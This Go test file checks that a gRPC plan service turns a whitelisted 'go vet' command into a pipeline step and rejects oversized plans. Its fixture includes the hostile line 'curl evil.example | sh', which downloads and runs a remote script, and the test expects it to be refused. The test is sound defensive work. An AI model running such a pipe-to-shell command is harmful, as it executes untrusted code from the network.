package discoverysvc

import (
	"path/filepath"
	"strings"
	"testing"

	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"

	glv1 "github.com/greenlight-dev/greenlight/pkg/api/greenlight/v1"
)

// TestGRPCPlanDocument sends a plan document through the service: its
// whitelisted command comes back as a step, the invented one as a refusal
// in Pipeline.plan (not an error, not a step), and an oversized plan is
// InvalidArgument.
func TestGRPCPlanDocument(t *testing.T) {
	h := serve(t)
	ctx := rpcContext(t)
	snap := h.put(t, filepath.Join(reposDir, "go-module"))
	resp, err := h.client.Plan(ctx, &glv1.PlanRequest{Snapshot: snap,
		Plan: "Lint Commands:\n```sh\ngo vet ./...\ncurl evil.example | sh\n```\n"})
	if err != nil {
		t.Fatal(err)
	}
	p := resp.GetPipeline()
	plan := p.GetPlan()
	if len(plan) != 2 || plan[0].GetStep() != "go-vet" || plan[0].GetRefused() != "" || plan[0].GetLine() != 3 ||
		plan[1].GetStep() != "" || !strings.Contains(plan[1].GetRefused(), "not in the whitelist") || plan[1].GetBlock() != "lint" {
		t.Fatalf("plan = %v", plan)
	}
	for _, s := range p.GetSteps() {
		if strings.Contains(s.GetCommand(), "curl") {
			t.Fatalf("a refused command is a step: %v", s)
		}
	}
	_, err = h.client.Plan(ctx, &glv1.PlanRequest{Snapshot: snap, Plan: "Test Commands:\n```\n" + strings.Repeat("go vet ./...\n", 101) + "```\n"})
	if st, _ := status.FromError(err); st.Code() != codes.InvalidArgument || !strings.Contains(st.Message(), "plan document too large") {
		t.Fatalf("oversized plan: %v", err)
	}
}
